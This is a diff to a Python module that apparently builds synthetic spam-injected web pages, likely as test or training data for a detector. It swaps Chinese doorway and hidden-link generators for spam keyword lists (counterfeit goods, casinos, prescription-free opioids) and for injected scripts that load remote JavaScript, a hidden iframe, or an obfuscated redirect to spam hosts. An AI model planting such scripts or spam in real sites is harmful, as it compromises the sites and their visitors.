@@ -6,37 +6,41 @@ from collections.abc import Callable
 
 from clean_pages import Clean
 
-NAMES = "鑫汇体育 环亚集团 博鱼在线 欧宝电竞 hx7.app 乐虎国际 a8体育直播 ky棋牌 米博app".split()
-GOODS = """
-聚宝盆炸金花透视器 五分快车彩走势 澳门最准资料一码 免费领彩票金 三公大吃小上庄 无抵押急用钱私借 国外药房伟哥直邮 黑科技改分软件 学信网学历注册
-深夜成人福利社 白虎萝莉视频 东京热在线 大香蕉网 同性交友直播 约会学妹私房照 男模会所招聘 迷幻香烟批发 车牌套牌定做 港版假烟货源 论文查重包通过
-""".split()
-HOSTS = "www.hxt777.com boyu.life m.dxj55.cn www.ywzfb.com tyc-9.com".split()
+JAPANESE = "腕時計 激安 通販|ルイヴィトン 財布 コピー|送料無料 スニーカー 新作|ブランドバッグ 偽物 販売|ゴルフクラブ 最安値|カジノ ボーナス"
+KOREAN = "온라인카지노 추천|스포츠토토 배당|바카라 사이트|먹튀검증 업체|슬롯 무료"
+ENGLISH = "buy oxycodone online no prescription|live casino real money|hot singles dating near you|cheap louis vuitton outlet|write my essay service|crypto casino bonus"
+HOSTS = "www.brand-shop24.com kr-toto.info www.mypills-rx.net dhgd88.cc www.lvcopy.shop".split()
 
 
-def doorway(source: random.Random, clean: Clean) -> str:
-    """Turn the page into a door for a brand: title, heading, crumbs, first and last paragraph."""
-    name = source.choice(NAMES)
-    goods = source.sample(GOODS, 3)
-    texts = list(clean.paragraphs)
-    texts[0] = f"{name}{goods[0]}，{name}官方网站提供{goods[1]}、{goods[2]}，欢迎登录{name}。" + texts[0]
-    texts[-1] += f"本文由{name}（{source.choice(HOSTS)}）整理发布，更多{goods[0]}请关注{name}。"
-    return clean.html(title=f"{name}-{goods[0]}_{goods[1]}", paragraphs=tuple(texts))
+def foreign_words(source: random.Random, clean: Clean) -> str:
+    """Put advertising in other languages into title, text or description."""
+    lines = source.choice([JAPANESE, KOREAN, ENGLISH]).split("|")
+    words = " | ".join(source.sample(lines, 3))
+    way = source.randrange(3)
+    if way == 0:
+        return clean.html(title=words)
+    if way == 1:
+        return clean.html(last=f"<p>{words}</p>")
+    return clean.html(head=f'<meta name="description" content="{words}">')
 
 
-def link_in_the_text(source: random.Random, clean: Clean) -> str:
-    """Put links of strangers on words of sentences and on single marks, as paid articles do."""
-    texts = list(clean.paragraphs)
-    for goods in source.sample(GOODS, 2):
-        index = source.randrange(len(texts))
-        at = texts[index].find("。") + 1
-        link = f'<a href="http://{source.choice(HOSTS)}/" target="_blank">{source.choice([goods, "。", "，"])}</a>'
-        texts[index] = texts[index][:at] + link + texts[index][at:]
-    quiet = f'<a href="https://{source.choice(HOSTS)}/" style="color:#333;text-decoration:none">{source.choice(GOODS)}</a>'
-    return clean.html(middle=f"<p>延伸阅读：{quiet}</p>", paragraphs=tuple(texts))
+def built_by_script(source: random.Random, clean: Clean) -> str:
+    """Let a script build the links, frames or forms of strangers from parts."""
+    host = source.choice(HOSTS)
+    code = source.choice(
+        [
+            f"var a=document.createElement('a');a.href='http://{host}/';a.innerText='x';document.body.appendChild(a);",
+            f"var f=document.createElement('iframe');f.style.display='none';f.src='//{host}/t';document.body.appendChild(f);",
+            f"$('body').append('<a href=\"http://{host}\">more</a>');",
+            f"$.getScript('https://{host}/x.js');",
+            f"fetch('https://{host}/p').then(function(r){{return r.text()}}).then(function(t){{document.body.innerHTML=t}});",
+            f"var s='{host[::-1]}'.split('').reverse().join('');location.href='http://'+s;",
+        ]
+    )
+    return clean.html(last=f"<script>{code}</script>")
 
 
 UNTUNED: dict[str, Callable[[random.Random, Clean], str]] = {
-    "doorway (untuned)": doorway,
-    "link in the text (untuned)": link_in_the_text,
+    "foreign words (untuned)": foreign_words,
+    "built by script (untuned)": built_by_script,
 }
